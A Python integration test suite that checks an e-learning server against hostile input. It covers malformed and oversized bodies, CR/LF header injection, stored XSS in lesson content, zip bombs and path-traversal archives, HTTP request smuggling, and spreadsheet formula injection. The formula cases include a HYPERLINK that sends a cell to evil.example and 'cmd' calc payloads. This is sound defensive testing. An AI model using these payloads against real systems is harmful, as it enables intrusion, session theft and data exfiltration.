"""Hostile request bodies and headers against the real binary: every route of the OpenAPI document
that takes a body gets oversized, deeply nested, malformed and mistyped ones, and answers a
problem (400, 413, 415, …), never a 5xx, and stays up; and nothing a client sends comes back
inside a response header with its CR/LF intact (Content-Disposition file names, Location, ETag,
cookies, X-Request-Id). tests/integration/test_server.py covers the transport's own limits
(headers, one oversized body, malformed HTTP)."""
import csv
import html as htmllib
import io
import re
import struct
import time
import unittest
import zipfile

from attacker import (BASE, DRILLS, call_raw, fill, learner, new_course, open_server,
                      parse_status_line, staff, walk)

server = None
REFUSALS = {400, 404, 409, 412, 413, 415, 422}


def setUpModule():
    global server
    server = open_server(seed_content=str(DRILLS),
                         env={"PRACTICA_PUBLIC_URL": "https://learn.practica.test"})


def tearDownModule():
    server.cleanup()


def raw_headers(raw):
    """The header lines of a raw HTTP response, as (lower-case name, value)."""
    head = raw.split(b"\r\n\r\n", 1)[0].decode("latin-1").split("\r\n")[1:]
    return [(line.split(":", 1)[0].strip().lower(), line.split(":", 1)[1].strip())
            for line in head if ":" in line]


class BodiesTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.admin = staff(server, "admin")  # admins pass every staff route's access check
        cls.slug = new_course(cls.admin)
        status, _, draft = cls.admin.call(
            "POST", f"{BASE}/{cls.slug}/lessons/basics/exercises",
            {"exercise": {"id": "q", "type": "true_false", "prompt": "P", "answer": True}})
        assert status == 201, draft
        target = learner(server).user["id"]
        _, _, doc = server.get_json("/api/openapi.json")
        cls.body_routes = []
        for path, item in doc["paths"].items():
            for method, operation in item.items():
                if isinstance(operation, dict) and "requestBody" in operation:
                    media = next(iter(operation["requestBody"]["content"]))
                    learners = path.startswith(("/api/exercises", "/api/me/reviews"))
                    exercise = "drills.one-try" if learners else "q"
                    cls.body_routes.append((method.upper(), fill(path, course=cls.slug, id=target,
                                                                 exercise=exercise), media))

    def alive(self):
        self.assertEqual(server.request("GET", "/api/health")[0], 200)

    def assert_refused(self, status, headers, body, what):
        self.assertIn(status, REFUSALS, (what, body if isinstance(body, dict) else body[:200]))
        self.assertEqual(headers.get("content-type"), "application/problem+json", what)

    def test_every_body_route_refuses_a_body_over_its_limit_before_reading_it(self):
        self.assertGreaterEqual(len(self.body_routes), 20)
        for method, path, media in self.body_routes:
            head = (f"{method} {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer "
                    f"{self.admin.token}\r\nContent-Type: {media}\r\n"
                    f"Content-Length: {4 * 1024 ** 3}\r\nConnection: close\r\n\r\n").encode()
            raw = server.raw(head + b"[" * 4096, read_timeout=5)
            self.assertEqual(parse_status_line(raw), 413, (method, path, raw[:300]))
        self.alive()

    def test_every_json_route_refuses_deep_malformed_and_mistyped_bodies(self):
        bodies = {
            "deep arrays": b"[" * 100_000 + b"]" * 100_000,
            "deep objects": b'{"a":' * 3000 + b"1" + b"}" * 3000,
            "deep inside a field": b'{"answer":' + b"[" * 2000 + b"]" * 2000 + b"}",
            "unterminated": b'{"email": "a@b.org", "password": "x',
            "invalid UTF-8": b'{"display_name": "\xff\xfe\xc0\xaf"}',
            "NUL inside a string": b'{"display_name": "a\\u0000b", "markdown": "a\\u0000b"}',
            "lone surrogate": b'{"display_name": "\\ud800"}',
            "huge number": b'{"answer": 1e999999, "rating": 1e999999}',
            "huge integer": b'{"answer": ' + b"9" * 3000 + b"}",
            "duplicate keys": b'{"role": "learner", "role": "admin", "answer": 1, "answer": 2}',
            "not an object": b'"just a string"',
            "array at the top": b"[1, 2, 3]",
            "empty": b"",
            "BOM first": b'\xef\xbb\xbf{"a": 1}',
            "trailing garbage": b'{"a": 1} {"b": 2}',
            "comments": b'{"a": 1 /* x */}',
            "many keys": b"{" + b",".join(b'"k%d": %d' % (i, i) for i in range(1500)) + b"}",
        }
        for method, path, media in self.body_routes:
            if media != "application/json":
                continue
            for what, body in bodies.items():
                status, headers, problem = call_raw(server, self.admin, method, path, body)
                if status < 300:  # a body some routes may take: an empty or odd one, not deep
                    self.assertIn(what, ("empty", "duplicate keys", "many keys",
                                         "not an object", "array at the top"),
                                  (method, path, what))
                    continue
                self.assert_refused(status, headers, problem, (method, path, what))
            for media_type in ("text/plain", "application/x-www-form-urlencoded",
                               "application/json-patch+json", "multipart/form-data; boundary=x"):
                status, headers, problem = call_raw(server, self.admin, method, path, b"{}",
                                                    content_type=media_type)
                self.assert_refused(status, headers, problem, (method, path, media_type))
        self.alive()
        # Nothing half-stored by all that: the learner route wrote no attempt.
        self.assertEqual(server.stored_attempts(self.admin.user["id"]), [])

    def test_binary_routes_refuse_garbage(self):
        for method, path, media in self.body_routes:
            if media == "application/json":
                continue
            for body in (b"", b"\x00" * 1000, b"PK\x03\x04" + b"\xff" * 5000,
                         b"PK\x05\x06" + b"\x00" * 18, "::é::\u202e{T}".encode("utf-16")):
                status, headers, problem = call_raw(server, self.admin, method, path, body,
                                                    content_type=media)
                self.assert_refused(status, headers, problem, (method, path, body[:8]))
        self.alive()


class HeaderInjectionTest(unittest.TestCase):
    """CR/LF that reach a header would let a caller add headers (a cookie, a redirect) to the
    server's answer. Every value below travels in a place the server reflects into a header; the
    answer, read raw, must hold no header the server did not write."""

    @classmethod
    def setUpClass(cls):
        cls.admin = staff(server, "admin")
        cls.slug = new_course(cls.admin)

    def probe(self, request):
        raw = server.raw(request.encode("latin-1"), read_timeout=3)
        self.assertTrue(raw.startswith(b"HTTP/1.1 "), raw[:100])
        for name, value in raw_headers(raw):
            self.assertNotEqual(name, "x-injected", (request[:80], raw[:400]))
            self.assertNotIn("injected", value.lower(), (name, request[:80]))
        return raw

    def get(self, target, extra=""):
        return self.probe(f"GET {target} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer "
                          f"{self.admin.token}\r\n{extra}Connection: close\r\n\r\n")

    def test_encoded_crlf_in_paths_and_queries_stays_out_of_headers(self):
        crlf = "%0d%0aX-Injected:%20yes%0d%0aSet-Cookie:%20injected=1"
        for target in (f"/api/analytics/courses/{self.slug}{crlf}/items?format=csv",
                       f"/api/analytics/courses/{self.slug}/items?format=csv{crlf}",
                       f"/api/analytics/courses/{self.slug}/items?format=csv&from=2025-01-01{crlf}",
                       f"{BASE}/{self.slug}{crlf}/bundle", f"{BASE}/{self.slug}{crlf}/gift",
                       f"{BASE}/{self.slug}/xapi?from=2025-01-01{crlf}",
                       f"{BASE}/{self.slug}/gift?skip_unsupported=true{crlf}",
                       f"/api/courses/drills{crlf}", f"/api/me/progress/drills{crlf}",
                       f"/{crlf}", f"/assets/x.js{crlf}", f"/api/nope{crlf}"):
            self.get(target)

    def test_slugs_and_ids_that_would_become_file_names_or_locations_are_refused(self):
        for slug in ("a\r\nx-injected: yes", "a\"; filename=\"evil.exe", "a\nb", "../../etc",
                     "a%0d%0ab", "A B"):
            status, _, problem = self.admin.call("POST", BASE, {"slug": slug, "title": "T"})
            self.assertEqual(status, 400, (slug, problem))
        for exercise_id in ("q\r\nx-injected: yes", "q\"x", "q/../r"):
            status, _, problem = self.admin.call(
                "POST", f"{BASE}/{self.slug}/lessons/basics/exercises",
                {"exercise": {"id": exercise_id, "type": "true_false", "prompt": "P",
                              "answer": True}})
            self.assertEqual(status, 400, (exercise_id, problem))
        # GIFT names become exercise ids, which X-Gift-Skipped lists: a name full of CR/LF.
        bank = "::q\rx-injected: yes\n::Explain.{}\n\n::r\r\nSet-Cookie: injected=1::Order?{}\n"
        status, _, _ = call_raw(server, self.admin, "PUT", f"{BASE}/{self.slug}/gift",
                                bank.encode(), "text/plain")
        self.assertIn(status, (200, 400))
        self.get(f"{BASE}/{self.slug}/gift?skip_unsupported=true")
        self.get(f"{BASE}/{self.slug}/bundle")
        self.get(f"{BASE}/{self.slug}")

    def test_header_values_the_server_might_echo(self):
        # Header values cannot carry a raw CR/LF (that would end the header); what can be tried
        # is the encoded and the obsolete-folding forms, and bytes beyond ASCII.
        for extra in ("X-Request-Id: abc%0d%0aX-Injected: yes\r\n",
                      "X-Request-Id: abc\r\n X-Injected: folded\r\n",
                      "If-None-Match: \"x%0d%0aX-Injected: yes\"\r\n",
                      "If-Match: \"1\"%0d%0aX-Injected: yes\r\n",
                      "Cookie: practica_refresh=abc%0d%0aSet-Cookie: injected=1\r\n",
                      "Origin: https://a.example%0d%0aX-Injected: yes\r\n",
                      "Accept-Encoding: gzip%0d%0aX-Injected: yes\r\n",
                      "X-Forwarded-For: 1.2.3.4%0d%0aX-Injected: yes\r\n",
                      "X-Request-Id: \xe9\xff\r\n"):
            raw = self.get(f"{BASE}/{self.slug}", extra)
            request_id = dict(raw_headers(raw)).get("x-request-id", "")
            self.assertRegex(request_id, r"^[A-Za-z0-9._-]{1,64}$", extra)
            self.probe("POST /api/auth/refresh HTTP/1.1\r\nHost: x\r\nContent-Type: "
                       f"application/json\r\nContent-Length: 2\r\n{extra}Connection: close"
                       "\r\n\r\n{}")


class StoredScriptTest(unittest.TestCase):
    """Instructors are trusted with content, not with learners' sessions: whatever an author
    writes reaches a learner's lesson without a script, an event handler or a script URL (the
    Markdown renderer drops raw HTML and unsafe links; the CSP is the second line)."""

    EVIL = ('<img src=x onerror=alert(1)> [a](javascript:alert(2)) [b](JaVaScRiPt:alert(3)) '
            '![c](javascript:alert(4)) <a href="javascript:alert(5)">d</a> '
            '[e](data:text/html;base64,PHNjcmlwdD4=) <svg onload=alert(6)> '
            '<script>alert(7)</script> [f](vbscript:x) <iframe src=//evil></iframe> '
            '[g](&#106;avascript:alert(8)) [h](\x01javascript:alert(9)) '
            '<style>@import "//evil"</style> <form action=//evil><button>go</button></form>')

    def test_author_content_reaches_learners_without_script(self):
        admin = staff(server, "admin")
        slug = new_course(admin)
        evil = self.EVIL
        status, _, draft = admin.call("POST", f"{BASE}/{slug}/lessons",
                                      {"slug": "x", "title": "X", "markdown": evil})
        self.assertEqual(status, 201, draft)
        exercise = {"id": "q", "type": "single_choice", "prompt": evil, "hints": [evil],
                    "explanation": evil,
                    "options": [{"id": "a", "text": evil, "correct": True, "feedback": evil},
                                {"id": "b", "text": "B"}]}
        status, _, draft = admin.call("POST", f"{BASE}/{slug}/lessons/x/exercises",
                                      {"exercise": exercise})
        self.assertEqual(status, 201, draft)
        status, _, body = admin.call("POST", f"{BASE}/{slug}/publish")
        self.assertEqual(status, 201, body)
        status, _, gift = call_raw(server, admin, "PUT", f"{BASE}/{slug}/gift",
                                   f"::g::[html]{evil}{{=A ~B}}\n".encode(), "text/plain")
        student = learner(server)
        time.sleep(1.1)  # learners' caches see a publish within a second
        _, _, lesson = server.get_json(f"/api/courses/{slug}/lessons/x")
        _, _, hint = student.call("POST", f"/api/exercises/{slug}.q/hints", {})
        _, _, graded = student.call("POST", f"/api/exercises/{slug}.q/attempts", {"answer": "a"})
        _, _, preview = admin.call("POST", "/api/authoring/preview", {"markdown": evil})
        for where, value in (("lesson", lesson), ("hint", hint), ("attempt", graded),
                             ("preview", preview), ("gift", gift)):
            for _, key, text in walk(value):
                if key.endswith("html") and isinstance(text, str):  # what the app renders as HTML
                    self.assert_inert(text, where)

    def assert_inert(self, html, where):
        lowered = html.lower()
        for tag in ("<script", "<iframe", "<svg", "<style", "<form", "<object", "<embed"):
            self.assertNotIn(tag, lowered, (where, tag))
        self.assertIsNone(re.search(r"<[^>]*\son\w+\s*=", lowered), (where, html))
        for url in re.findall(r'(?:href|src|action)\s*=\s*"([^"]*)"', html, re.I):
            # What a browser makes of the attribute: entities decoded, leading controls and
            # spaces dropped (the URL standard), tabs and newlines removed.
            url = re.sub(r"[\t\n\r]", "", htmllib.unescape(url)).lstrip("".join(map(chr, range(33))))
            scheme = re.match(r"([a-z][a-z0-9+.-]*):", url.lower())
            if scheme:
                self.assertIn(scheme.group(1), ("http", "https", "mailto"), (where, url))

class HostileArchiveTest(unittest.TestCase):
    """A course bundle is a zip an instructor uploads: every entry is checked before anything is
    inflated and inflated bytes count against the limits (content/bundle_zip.h), so a zip bomb,
    entries that climb out of the bundle, tens of thousands of entries and zips inside zips are
    refused at once, and the draft is untouched."""

    def test_zip_bombs_slips_floods_and_nesting_are_refused_quickly(self):
        instructor = staff(server, "instructor")
        slug = new_course(instructor)
        _, headers, _ = instructor.call("GET", f"{BASE}/{slug}")
        revision = headers["etag"]

        def archive(entries, lie=None):
            data = io.BytesIO()
            with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as z:
                for name, content in entries:
                    z.writestr(name, content)
            data = bytearray(data.getvalue())
            if lie:  # the entry's sizes in both headers claim 100 bytes: a lying bomb
                name = lie.encode()
                local = data.find(b"PK\x03\x04")
                while local != -1:
                    if data[local + 30:local + 30 + len(name)] == name:
                        struct.pack_into("<I", data, local + 22, 100)
                    local = data.find(b"PK\x03\x04", local + 4)
                central = data.find(b"PK\x01\x02")
                while central != -1:
                    if data[central + 46:central + 46 + len(name)] == name:
                        struct.pack_into("<I", data, central + 24, 100)
                    central = data.find(b"PK\x01\x02", central + 4)
            return bytes(data)

        course = f"format: 1\nslug: {slug}\ntitle: T\nlessons:\n  - 01-a\n".encode()
        lesson = f"{slug}/lessons/01-a.md"
        zeros = b"a" * (40 * 1024 * 1024)
        bomb = archive([(f"{slug}/course.yaml", course), (lesson, zeros)])
        liar = archive([(f"{slug}/course.yaml", course), (lesson, zeros)], lie=lesson)
        self.assertLess(len(bomb), 100 * 1024)  # 40 MB inflated from about 40 KB
        cases = {
            "bomb": bomb,
            "lying bomb": liar,
            "slip": archive([(f"../../{slug}/course.yaml", course), ("/etc/cron.d/x", b"x"),
                             (f"{slug}/../../x", b"x")]),
            "flood": archive([(f"{slug}/f{i}", b"") for i in range(3000)]),
            "nested": archive([(f"{slug}/course.yaml", course), (f"{slug}/inner.zip", bomb)]),
        }
        for what, data in cases.items():
            started = time.monotonic()
            status, headers, problem = call_raw(server, instructor, "PUT",
                                                f"{BASE}/{slug}/bundle", data, "application/zip")
            self.assertIn(status, (400, 413), (what, problem))
            self.assertLess(time.monotonic() - started, 10, what)
        _, headers, _ = instructor.call("GET", f"{BASE}/{slug}")
        self.assertEqual(headers["etag"], revision)
        self.assertEqual(server.request("GET", "/api/health")[0], 200)


class RequestSmugglingTest(unittest.TestCase):
    """A proxy in front (CloudFront, an ALB, a TLS terminator) and practica must agree on where a
    request ends; any framing two parsers could read two ways is refused, and nothing after it
    on the connection is answered."""

    SMUGGLED = b"GET /api/me HTTP/1.1\r\nHost: x\r\n\r\n"
    HEAD = b"POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"

    def test_ambiguous_framing_is_refused_and_ends_the_connection(self):
        framings = {
            "length and chunked": b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            "two lengths": b"Content-Length: 2\r\nContent-Length: 40\r\n\r\n{}",
            "unknown coding": b"Transfer-Encoding: xchunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n",
            "chunked not last": b"Transfer-Encoding: chunked, identity\r\n\r\n2\r\n{}\r\n0\r\n\r\n",
            "space before colon": b"Transfer-Encoding : chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n",
            "bad chunk size": b"Transfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n",
            "chunk size overflow": b"Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n{}\r\n0\r\n\r\n",
            "negative length": b"Content-Length: -1\r\n\r\n{}",
            "signed length": b"Content-Length: +2\r\n\r\n{}",
            "bare LF": b"Content-Length: 2\n\n{}",
        }
        for what, framing in framings.items():
            raw = server.raw(self.HEAD + framing + self.SMUGGLED, read_timeout=3)
            statuses = [line for line in raw.split(b"\r\n") if line.startswith(b"HTTP/1.1 ")]
            self.assertEqual(statuses, [b"HTTP/1.1 400 Bad Request"], (what, raw[:300]))
        self.assertEqual(server.request("GET", "/api/health")[0], 200)


class CsvInjectionTest(unittest.TestCase):
    """Analytics CSV files open in spreadsheets, where a cell that starts with = + - @ (or a tab
    or CR) is a formula. Authors write prompts and lesson titles, learners write answers: none of
    it may arrive as a formula in the file a co-owner or an admin opens."""

    FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1")

    def test_analytics_csv_cells_never_start_a_formula(self):
        admin = staff(server, "admin")
        slug = new_course(admin, lessons=())
        status, _, draft = admin.call("POST", f"{BASE}/{slug}/lessons",
                                      {"slug": "l", "title": self.FORMULAS[0], "markdown": "x"})
        self.assertEqual(status, 201, draft)
        for i, formula in enumerate(self.FORMULAS):
            status, _, draft = admin.call(
                "POST", f"{BASE}/{slug}/lessons/l/exercises",
                {"exercise": {"id": f"q{i}", "type": "short_text", "prompt": formula,
                              "answers": ["right"]}})
            self.assertEqual(status, 201, (formula, draft))
        status, _, body = admin.call("POST", f"{BASE}/{slug}/publish")
        self.assertEqual(status, 201, body)
        time.sleep(1.1)
        for formula in self.FORMULAS:
            student = learner(server)
            for i in range(len(self.FORMULAS)):
                status, _, _ = student.call("POST", f"/api/exercises/{slug}.q{i}/attempts",
                                            {"answer": formula})
                self.assertEqual(status, 201)
        cells = 0
        for what in ("items", "funnel"):
            status, headers, data = server.request(
                "GET", f"/api/analytics/courses/{slug}/{what}?format=csv",
                headers={"Authorization": f"Bearer {admin.token}"})
            self.assertEqual(status, 200, data[:300])
            self.assertTrue(headers["content-type"].startswith("text/csv"))
            for row in csv.reader(io.StringIO(data.decode())):
                for cell in row:
                    cells += 1
                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                        float(cell)  # only a number may start so (a negative discrimination)
        self.assertGreater(cells, 20)


if __name__ == "__main__":
    unittest.main()
